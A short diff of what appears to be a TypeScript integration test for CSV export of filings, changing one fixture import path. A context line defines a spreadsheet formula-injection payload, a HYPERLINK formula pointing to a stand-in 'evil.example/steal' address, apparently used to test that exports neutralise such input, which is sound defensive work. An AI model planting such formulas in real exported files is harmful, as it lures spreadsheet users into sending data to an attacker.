@@ -13,7 +13,7 @@ import { createSqliteStore } from '../../src/store/sqlite-store.js';
 import type { FilingWrite } from '../../src/store/store.js';
 import { makeDataDir, runSciweek } from '../support/console-process.js';
 import { event } from '../support/engine-harness.js';
-import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../unit/export/fixtures.js';
+import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../support/sample-filings.js';
 import { parseCsv } from '../support/csv.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d=1","点击查看")';
